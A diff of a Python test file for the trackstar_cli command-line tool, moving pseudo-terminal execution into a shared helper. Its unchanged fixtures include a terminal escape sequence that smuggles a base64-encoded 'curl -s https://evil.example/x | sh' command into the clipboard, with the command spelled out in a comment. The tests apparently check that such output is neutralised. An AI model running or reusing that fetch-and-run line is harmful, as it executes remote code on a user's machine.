@@ -6,19 +6,15 @@ from __future__ import annotations
 
 import json
 import os
-import pty
-import select
-import subprocess
-import sys
 import threading
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from pathlib import Path
 from typing import Any
 
 import pytest
 
 from tests.conftest import add_connection
+from tests.ptyrun import run_on_pty
 
 CLIPBOARD = "\x1b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07"  # curl -s https://evil.example/x | sh
 TITLE = "\x1b]0;pwned\x07"
@@ -86,33 +82,10 @@ def hostile(monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
 
 def run_in_pty(*args: str, columns: int = 120) -> tuple[int, bytes]:
     """Run the CLI with stdout and stderr on a pseudo-terminal; return its exit code and every byte it wrote."""
-    main, secondary = pty.openpty()
     env = {**os.environ, "COLUMNS": str(columns), "LINES": "40", "TERM": "xterm-256color"}
     env.pop("NO_COLOR", None)
-    proc = subprocess.Popen(
-        [sys.executable, "-m", "trackstar_cli", *args],
-        stdin=subprocess.DEVNULL,
-        stdout=secondary,
-        stderr=secondary,
-        env=env,
-        cwd=Path(__file__).resolve().parents[1],
-    )
-    os.close(secondary)
-    chunks: list[bytes] = []
-    while True:
-        ready, _, _ = select.select([main], [], [], 30)
-        if not ready:
-            proc.kill()
-            break
-        try:
-            data = os.read(main, 65536)
-        except OSError:  # EIO: the child closed the terminal
-            break
-        if not data:
-            break
-        chunks.append(data)
-    os.close(main)
-    return proc.wait(timeout=30), b"".join(chunks)
+    code, out, _ = run_on_pty(list(args), env)
+    return code, out
 
 
 def _assert_neutralised(out: bytes) -> None:
